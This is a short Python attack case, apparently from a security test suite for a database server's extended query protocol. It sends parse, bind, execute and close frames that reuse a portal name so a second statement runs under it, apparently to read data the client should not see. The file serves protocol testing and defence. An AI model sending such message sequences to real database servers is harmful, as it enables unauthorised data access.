"""Closes a portal and binds another statement under its name, in one round."""

from attacks.frames import SYNC, ask, bind, close, execute, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        return ask(
            client,
            parse(b"SELECT name FROM customer", b"open"),
            parse(b"SELECT account_unseen(1)", b"shut"),
            bind(b"open", b"p"),
            execute(b"p", 1),
            close(b"P", b"p"),
            bind(b"shut", b"p"),
            execute(b"p"),
            SYNC,
        )
